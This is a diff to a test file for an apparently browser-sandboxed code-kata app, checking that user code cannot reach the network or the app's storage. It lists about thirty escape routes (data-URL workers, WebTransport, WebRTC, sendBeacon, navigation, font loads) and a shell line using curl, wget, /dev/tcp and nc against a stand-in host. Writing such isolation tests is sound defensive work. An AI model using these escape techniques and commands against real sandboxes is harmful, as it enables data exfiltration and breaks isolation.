@@ -19,6 +19,19 @@ const ways = {
     const code = "fetch('http://OUTSIDE/nested').then(() => postMessage('OUT'), (error) => postMessage(String(error)))";
     new Worker(URL.createObjectURL(new Blob([code]))).onmessage = ({ data }) => yes(data);
   }),
+  'data worker': () => new Promise((yes, no) => { const w = new Worker("data:text/javascript,fetch('http://OUTSIDE/data')"); w.onmessage = () => yes('OUT'); w.onerror = () => no(new Error('closed')); }),
+  'shared worker': () => { new SharedWorker('http://OUTSIDE/shared.js'); return 'OUT'; },
+  'data script': () => { importScripts("data:text/javascript,fetch('http://OUTSIDE/data-script')"); return 'OUT'; },
+  'data import': () => import("data:text/javascript,fetch('http://OUTSIDE/data-import');export default 1").then(() => 'OUT'),
+  transport: () => new WebTransport('https://OUTSIDE/transport').ready.then(() => 'OUT'),
+  rtc: () => { new RTCPeerConnection({ iceServers: [{ urls: 'stun:OUTSIDE' }] }).createDataChannel('x'); return 'OUT'; },
+  beacon: () => 'sent ' + navigator.sendBeacon('http://OUTSIDE/beacon', 'x'),
+  font: () => new FontFace('x', 'url(http://OUTSIDE/font)').load().then(() => 'OUT'),
+  navigation: () => { location.href = 'http://OUTSIDE/navigation'; return 'assigned'; },
+  replacing: () => { location.replace('http://OUTSIDE/replace'); return 'OUT'; },
+  open: () => { open('http://OUTSIDE/open'); return 'OUT'; },
+  'service worker': () => navigator.serviceWorker.getRegistrations().then(() => 'OUT'),
+  broadcast: () => new Promise((yes) => { const c = new BroadcastChannel('katas'); c.onmessage = ({ data }) => yes('OUT ' + data); c.postMessage('hello'); }),
   databases: () => indexedDB.databases().then((all) => 'OUT ' + JSON.stringify(all)),
   database: () => new Promise((yes, no) => { const o = indexedDB.open('my-katas'); o.onsuccess = () => yes('OUT'); o.onerror = () => no(o.error); }),
   caches: () => caches.keys().then(() => 'OUT'),
@@ -32,7 +45,7 @@ const ways = {
 const tell = async (ready) => {
   const told = {};
   for (const [name, way] of Object.entries(ways)) {
-    const late = new Promise((yes) => setTimeout(() => yes('nothing came'), 500));
+    const late = new Promise((yes) => setTimeout(() => yes('nothing came'), 200));
     try { told[name] = await Promise.race([late, way()]); } catch (error) { told[name] = String(error); }
   }
   return told;
@@ -64,7 +77,8 @@ describe('in the app as it is built', () => {
   test('hostile code of a kata reaches no network and nothing of the app', async () => {
     const { result, hits, heard } = await commands.inBuiltPage({
       files: {
-        'cyber-dojo.sh': 'curl http://OUTSIDE/curl; wget http://OUTSIDE/wget; node out.js\n',
+        'cyber-dojo.sh':
+          'curl http://OUTSIDE/curl; wget http://OUTSIDE/wget; exec 3<>/dev/tcp/127.0.0.1/80; nc OUTSIDE; ping OUTSIDE\nnode out.js\n',
         'out.js': `${waysOut} tell().then((told) => console.log(JSON.stringify(told)));`,
       },
     });
@@ -72,7 +86,7 @@ describe('in the app as it is built', () => {
     expect(heard).toEqual([]);
     if (result.kind !== 'finished') throw new Error(JSON.stringify(result));
     const told = JSON.parse(result.stdout) as Told;
-    expect(Object.keys(told).length).toBe(18);
+    expect(Object.keys(told).length).toBe(31);
     expect(Object.entries(told).filter(([, what]) => what.startsWith('OUT'))).toEqual([]);
     expect(told['page']).toBe('undefinedundefinedundefined');
   });
